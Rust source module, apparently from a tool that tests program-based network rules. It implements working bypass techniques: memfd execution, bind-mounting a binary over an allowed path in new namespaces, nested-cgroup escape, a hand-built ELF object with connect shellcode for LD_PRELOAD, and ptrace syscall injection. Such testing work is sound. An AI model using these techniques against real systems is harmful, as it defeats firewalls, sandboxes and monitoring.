//! Posing as the program that a rule names, or making it do what the intruder wants.

use std::ffi::CString;
use std::fs::{self, File};
use std::io::{self, Write};
use std::net::SocketAddrV4;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::process::CommandExt;
use std::process::Command;

use super::parse;
use super::system;

/// Runs a copy of `source` that no file system holds.
pub fn run_from_memory(source: &str, arguments: &[&str]) -> io::Result<String> {
    // SAFETY: the name ends with a NUL.
    let descriptor = system::check(unsafe { libc::memfd_create(c"report".as_ptr(), 0) })?;
    // SAFETY: just opened, and nothing else owns it.
    let mut memory = File::from(unsafe { OwnedFd::from_raw_fd(descriptor) });
    memory.write_all(&fs::read(source)?)?;
    Err(system::execute(memory.as_raw_fd(), arguments))
}

/// Mounts `source` over `path`, in a user and mount namespace of its own, and runs it from there.
pub fn run_mounted_over(source: &str, path: &str, arguments: &[&str]) -> io::Result<String> {
    // SAFETY: this process has one thread.
    system::check(unsafe { libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) })?;
    mount(c"none", c"/", libc::MS_REC | libc::MS_PRIVATE)?;
    mount(&system::text(source)?, &system::text(path)?, libc::MS_BIND)?;
    Err(Command::new(path).args(arguments).exec())
}

/// Makes cgroups in the container's own, from inside, and dials from the lowest.
pub fn dial_from_nested_cgroup(target: &str) -> io::Result<String> {
    const DEEP: &str = "/tmp/cgroup/a/b/c";
    // SAFETY: this process has one thread.
    system::check(unsafe { libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS | libc::CLONE_NEWCGROUP) })?;
    mount(c"none", c"/", libc::MS_REC | libc::MS_PRIVATE)?;
    fs::create_dir_all("/tmp/cgroup")?;
    let (source, place) = (c"cgroup2".as_ptr(), c"/tmp/cgroup".as_ptr());
    // SAFETY: the strings end with a NUL; no data is needed.
    system::check(unsafe { libc::mount(source, place, source, 0, std::ptr::null()) })?;
    fs::create_dir_all(DEEP)?;
    fs::write(format!("{DEEP}/cgroup.procs"), "0")?;
    super::dial::dial("tcp", target, &[])
}

fn mount(source: &std::ffi::CStr, target: &std::ffi::CStr, flags: libc::c_ulong) -> io::Result<()> {
    let (source, target) = (source.as_ptr(), target.as_ptr());
    // SAFETY: both strings end with a NUL; no type and no data are needed for these flags.
    system::check(unsafe { libc::mount(source, target, std::ptr::null(), flags, std::ptr::null()) }).map(drop)
}

/// Writes a shared object whose initialization connects to `target` and ends the process with the error number: what
/// `LD_PRELOAD` brings into a program.
///
/// Source: elf(5).
pub fn write_object(path: &str, target: &str) -> io::Result<String> {
    const DYNAMIC: u64 = 64 + 2 * 56;
    const CODE_AT: u64 = DYNAMIC + 6 * 16;
    let target: SocketAddrV4 = parse(target)?;
    let mut code = vec![
        0x6a, 0x29, 0x58, 0x6a, 0x02, 0x5f, 0x6a, 0x01, 0x5e, 0x31, 0xd2, 0x0f,
        0x05, // socket(AF_INET, SOCK_STREAM, 0)
        0x97, 0x48, 0x8d, 0x35, 18, 0, 0, 0, // the descriptor, and the address behind this code
        0x6a, 0x10, 0x5a, 0x6a, 0x2a, 0x58, 0x0f, 0x05, // connect(descriptor, address, 16)
        0xf7, 0xd8, 0x97, 0xb8, 0xe7, 0, 0, 0, 0x0f, 0x05, // exit_group(-result)
    ];
    code.extend((libc::AF_INET as u16).to_ne_bytes());
    code.extend(target.port().to_be_bytes());
    code.extend(target.ip().octets());
    code.extend([0; 8]);
    let symbols = CODE_AT + code.len() as u64;
    let strings = symbols + 24;
    let end = strings + 1;
    let machine: u16 = 62;
    let mut object = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
    let mut put = |bytes: &[u8]| object.extend_from_slice(bytes);
    // ET_DYN, EM_X86_64, version, entry, program headers, no sections, sizes.
    put(&3_u16.to_le_bytes());
    put(&machine.to_le_bytes());
    put(&1_u32.to_le_bytes());
    [0_u64, 64, 0].iter().for_each(|number| put(&number.to_le_bytes()));
    put(&0_u32.to_le_bytes());
    [64_u16, 56, 2, 64, 0, 0].iter().for_each(|number| put(&number.to_le_bytes()));
    // PT_LOAD of everything, readable, writable and executable; PT_DYNAMIC.
    for (kind, flags, at, size) in [(1_u32, 7_u32, 0, end), (2, 6, DYNAMIC, CODE_AT - DYNAMIC)] {
        put(&kind.to_le_bytes());
        put(&flags.to_le_bytes());
        [at, at, at, size, size, 4096].iter().for_each(|number: &u64| put(&number.to_le_bytes()));
    }
    // DT_STRTAB, DT_STRSZ, DT_SYMTAB, DT_SYMENT, DT_INIT, DT_NULL.
    for (tag, value) in [(5_u64, strings), (10, 1), (6, symbols), (11, 24), (12, CODE_AT), (0, 0)] {
        put(&tag.to_le_bytes());
        put(&value.to_le_bytes());
    }
    put(&code);
    put(&[0; 25]);
    fs::write(path, object)?;
    Ok("ok".to_owned())
}

/// Starts `program` and makes it connect to `target`, system call by system call.
#[cfg(target_arch = "x86_64")]
pub fn trace(program: &str, target: &str) -> io::Result<String> {
    let target: SocketAddrV4 = parse(target)?;
    let program = system::text(program)?;
    // SAFETY: this process has one thread, so the child may do what it likes.
    let child = system::check(unsafe { libc::fork() })?;
    if child == 0 {
        become_traced(&program);
    }
    let outcome = Traced { child }.connect(target);
    // SAFETY: our own child.
    unsafe { libc::kill(child, libc::SIGKILL) };
    outcome
}

#[cfg(not(target_arch = "x86_64"))]
pub fn trace(_: &str, _: &str) -> io::Result<String> {
    Err(io::Error::other("written for x86_64 alone"))
}

#[cfg(target_arch = "x86_64")]
fn become_traced(program: &CString) -> ! {
    let arguments = [program.as_ptr(), std::ptr::null()];
    let environment = [std::ptr::null()];
    // SAFETY: the arrays end with a null pointer, the strings with a NUL; on failure the child ends at once.
    unsafe {
        libc::ptrace(libc::PTRACE_TRACEME, 0, 0, 0);
        libc::execve(program.as_ptr(), arguments.as_ptr(), environment.as_ptr());
        libc::_exit(1)
    }
}

/// A child that stopped at its first instruction.
#[cfg(target_arch = "x86_64")]
struct Traced {
    child: libc::pid_t,
}

#[cfg(target_arch = "x86_64")]
impl Traced {
    fn connect(&self, target: SocketAddrV4) -> io::Result<String> {
        self.wait()?;
        let registers = self.registers()?;
        let address = registers.rsp - 256;
        let mut bytes = [0_u8; 16];
        bytes[..2].copy_from_slice(&(libc::AF_INET as u16).to_ne_bytes());
        bytes[2..4].copy_from_slice(&target.port().to_be_bytes());
        bytes[4..8].copy_from_slice(&target.ip().octets());
        for (index, word) in bytes.chunks_exact(8).enumerate() {
            let word = u64::from_ne_bytes(word.try_into().map_err(io::Error::other)?);
            self.poke(address + index as u64 * 8, word)?;
        }
        // The instruction `syscall`.
        self.poke(registers.rip, 0x050f)?;
        let call = |number: libc::c_long, arguments: [u64; 3]| self.call(&registers, number as u64, arguments);
        let socket = call(libc::SYS_socket, [libc::AF_INET as u64, libc::SOCK_STREAM as u64, 0])?;
        call(libc::SYS_connect, [socket, address, 16])?;
        Ok("ok".to_owned())
    }

    fn call(&self, registers: &libc::user_regs_struct, number: u64, [a, b, c]: [u64; 3]) -> io::Result<u64> {
        let registers =
            libc::user_regs_struct { rax: number, rdi: a, rsi: b, rdx: c, orig_rax: u64::MAX, ..*registers };
        // SAFETY: the child is stopped, and the registers outlive the call.
        system::check(unsafe { libc::ptrace(libc::PTRACE_SETREGS, self.child, 0, &registers) } as i32)?;
        // SAFETY: the child is stopped.
        system::check(unsafe { libc::ptrace(libc::PTRACE_SINGLESTEP, self.child, 0, 0) } as i32)?;
        self.wait()?;
        let result = self.registers()?.rax;
        let error = i32::try_from((result as i64).wrapping_neg()).ok().filter(|number| (1..4096).contains(number));
        error.map_or(Ok(result), |number| Err(io::Error::from_raw_os_error(number)))
    }

    fn poke(&self, address: u64, word: u64) -> io::Result<()> {
        // SAFETY: the child is stopped; an address that it does not have is an error.
        system::check(unsafe { libc::ptrace(libc::PTRACE_POKEDATA, self.child, address, word) } as i32).map(drop)
    }

    fn registers(&self) -> io::Result<libc::user_regs_struct> {
        // SAFETY: all-zero bytes are a valid value of this plain structure.
        let mut registers: libc::user_regs_struct = unsafe { std::mem::zeroed() };
        // SAFETY: the child is stopped, and the registers outlive the call.
        system::check(unsafe { libc::ptrace(libc::PTRACE_GETREGS, self.child, 0, &mut registers) } as i32)?;
        Ok(registers)
    }

    fn wait(&self) -> io::Result<()> {
        let mut status = 0;
        // SAFETY: our own child.
        system::check(unsafe { libc::waitpid(self.child, &mut status, 0) })?;
        if libc::WIFSTOPPED(status) { Ok(()) } else { Err(io::Error::other("the program ended")) }
    }
}
